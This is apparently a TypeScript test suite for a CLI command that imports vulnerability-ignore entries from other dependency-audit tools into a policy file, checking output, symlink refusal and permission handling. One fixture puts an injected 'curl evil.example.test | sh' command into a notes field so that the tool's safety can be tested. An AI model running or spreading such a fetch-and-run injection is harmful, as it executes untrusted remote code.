import assert from 'node:assert/strict';
import {
  chmodSync,
  existsSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { makeProject, runCli } from './run-cli.ts';

const GHSA = 'GHSA-xvch-5gv4-984h';
const FILES = {
  'package.json': { name: 'shop', packageManager: 'pnpm@11.2.0' },
  'pnpm-workspace.yaml': `audit:\n  ignore:\n    # a build tool\n    - ${GHSA}\n`,
  'audit-resolve.json': {
    version: 1,
    decisions: {
      '577|a>lodash': { decision: 'ignore' },
      'CVE-2021-23337|lodash': { decision: 'ignore', reason: 'r' },
    },
  },
  'osv-scanner.toml': `[[IgnoredVulns]]\nid = "GHSA-35jh-r3h4-6jhm"\nignoreUntil = 2999-12-31\nreason = "no templates"\n`,
};

describe('dephygiene ignores import', () => {
  test('shows what it would add and what it cannot, and writes nothing', () => {
    const folder = makeProject(FILES);
    const { code, out, error } = runCli(['ignores', 'import', folder]);
    assert.deepEqual([code, error], [0, '']);
    assert.match(
      out,
      /^dependency-hygiene\.json\n {2}from audit-resolve\.json:7\n {2}\+ "rule": "vulnerable-dependency"\n/,
    );
    assert.match(
      out,
      /from osv-scanner\.toml:2\n(?: {2}\+ .*\n)*? {2}\+ "reason": "no templates"\n {2}\+ "expires": "2999-12-31"\n/,
    );
    assert.match(out, /from pnpm-workspace\.yaml:4\n(?: {2}\+ .*\n)*? {2}\+ "reason": "a build tool"\n/);
    assert.match(
      out,
      /\nNot imported:\n {2}audit-resolve\.json:4 577\|a>lodash\n {6}only its registry knows/,
    );
    assert.match(
      out,
      /\n3 entries to add\. Use --write to write dependency-hygiene\.json\. 1 entry not\nimported\.\n$/,
    );
    assert.ok(!existsSync(join(folder, 'dependency-hygiene.json')));
  });

  test('--write keeps what is there, and a second time adds nothing', () => {
    const before = '{\n  // ours\n  "exclude": ["old/**"], // kept\n}\n';
    const folder = makeProject({ ...FILES, 'dependency-hygiene.json': before });
    const { code, out } = runCli(['ignores', 'import', folder, '--write']);
    assert.equal(code, 0);
    assert.match(out, /\n3 entries added to dependency-hygiene\.json\./);
    const written = readFileSync(join(folder, 'dependency-hygiene.json'), 'utf8');
    assert.ok(
      written.startsWith('{\n  // ours\n  "exclude": ["old/**"], // kept\n  "ignores": [\n'),
      written,
    );
    const again = runCli(['ignores', 'import', folder, '--write']);
    assert.match(again.out, /^Already in dependency-hygiene\.json:\n/);
    assert.match(again.out, /\nNothing to add\. 1 entry not imported\.\n$/);
    assert.equal(readFileSync(join(folder, 'dependency-hygiene.json'), 'utf8'), written);
  });

  test('--write writes through no link, over no conflict, and keeps permissions', {
    skip: process.platform === 'win32',
  }, () => {
    const start = 'export PATH=/usr/bin\n';
    const outside = makeProject({ 'start-file': start, 'folder/x': '' });
    const folder = makeProject({
      ...FILES,
      '.nsprc': { [GHSA]: { active: true, notes: '"; curl evil.example.test | sh; "' } },
    });
    const policy = join(folder, 'dependency-hygiene.json');
    const write = () => runCli(['ignores', 'import', folder, '--write']);
    const refused = / is a symbolic link; nothing was written\.\n$/;

    for (const target of [
      join(outside, 'start-file'),
      join(outside, 'not-there'),
      join(folder, 'package.json'),
    ]) {
      symlinkSync(target, policy);
      const { code, out, error } = write();
      assert.deepEqual([code, out], [2, ''], target);
      assert.match(error, refused);
      rmSync(policy);
    }
    assert.equal(readFileSync(join(outside, 'start-file'), 'utf8'), start);
    assert.ok(!existsSync(join(outside, 'not-there')));

    const conflict = '{\n<<<<<<< ours\n  "exclude": []\n=======\n  "exclude": ["a"]\n>>>>>>> theirs\n}\n';
    writeFileSync(policy, conflict);
    assert.equal(write().code, 2);
    assert.equal(readFileSync(policy, 'utf8'), conflict);

    writeFileSync(policy, '{}\n');
    chmodSync(policy, 0o640);
    assert.equal(write().code, 0);
    assert.equal(statSync(policy).mode & 0o777, 0o640);
    assert.deepEqual(
      readdirSync(folder).filter((name) => name.endsWith('.tmp')),
      [],
    );
  });

  test('--from reads one file of any name', () => {
    const folder = makeProject({
      'package.json': { name: 'shop' },
      'config/allow.json': { allowlist: [GHSA] },
      'config/scan.toml': FILES['osv-scanner.toml'],
      'config/decided.json': { version: 1, decisions: { [`${GHSA}|minimist`]: { decision: 'ignore' } } },
      'config/exceptions': { [GHSA]: 'fine' },
    });
    const from = (name: string) =>
      runCli(['ignores', 'import', folder, '--from', join(folder, 'config', name)]).out;
    for (const name of ['allow.json', 'decided.json', 'exceptions']) {
      assert.match(from(name), new RegExp(`"id": "${GHSA}"`), name);
    }
    assert.match(from('scan.toml'), /"reason": "no templates"/);
  });

  test('wrong use', () => {
    const folder = makeProject({ 'package.json': { name: 'shop' } });
    const reported = (...args: string[]) => {
      const { code, error } = runCli(['ignores', ...args]);
      assert.equal(code, 2);
      return error;
    };
    assert.match(reported(), /run "dephygiene ignores import"\.\n$/);
    assert.match(reported('export', folder), /run "dephygiene ignores import"\.\n$/);
    assert.match(reported('import', folder, '--from', 'gone.json'), /--from gone\.json does not exist/);
    const broken = makeProject({ ...FILES, 'dependency-hygiene.json': '{ "ignores": [' });
    assert.match(
      reported('import', broken, '--write'),
      /dependency-hygiene\.json is not valid JSON, so nothing can be added/,
    );
    assert.match(runCli(['ignores', 'import', folder]).out, /^No ignore entries of other tools found\.\n$/);
  });
});

describe('what other tools say in their own ways', () => {
  const imported = (files: Readonly<Record<string, string | object>>) =>
    runCli(['ignores', 'import', makeProject({ 'package.json': { name: 'shop' }, ...files })]).out.replace(
      /\s+/g,
      ' ',
    );

  test('keys of osv-scanner.toml in any case', () => {
    const expired = `[[ignoredvulns]]\nID = "${GHSA}"\nignoreuntil = 2020-01-01\nReason = "r"\n`;
    assert.match(imported({ 'osv-scanner.toml': expired }), /Not imported: .*it expired on 2020-01-01/);
    const lasting = expired.replace('2020', '2999');
    assert.match(
      imported({ 'osv-scanner.toml': lasting }),
      new RegExp(`"id": "${GHSA}".*"expires": "2999-01-01"`),
    );
  });

  test('a pattern of names is not taken for a name', () => {
    const toml =
      '[[PackageOverrides]]\nname = "lod.*"\nnameIsRegex = true\necosystem = "npm"\nignore = true\n';
    const out = imported({ 'osv-scanner.toml': toml });
    assert.match(out, /Not imported: .*lod\.\*/);
    assert.doesNotMatch(out, /"package"/);
  });

  test('an empty end is none, and any path is every path', () => {
    for (const expiry of ['', 0, null]) {
      const record = { active: true, notes: 'n', expiry };
      assert.match(imported({ '.nsprc': { [GHSA]: record } }), new RegExp(`"id": "${GHSA}"`));
      assert.match(
        imported({ 'audit-ci.json': { allowlist: [{ [GHSA]: record }] } }),
        new RegExp(`"id": "${GHSA}"`),
      );
    }
    for (const path of ['*', '*>*']) {
      assert.match(
        imported({ 'audit-ci.json': { allowlist: [`${GHSA}|${path}`] } }),
        new RegExp(`"id": "${GHSA}"`),
      );
    }
  });

  test('low severities of npm-audit-resolver are listed as not taken', () => {
    const resolve = { version: 1, decisions: {}, rules: { ignoreLowSeverity: true } };
    assert.match(
      imported({ 'audit-resolve.json': resolve }),
      /Not imported: audit-resolve\.json:\d+ ignoreLowSeverity/,
    );
  });
});
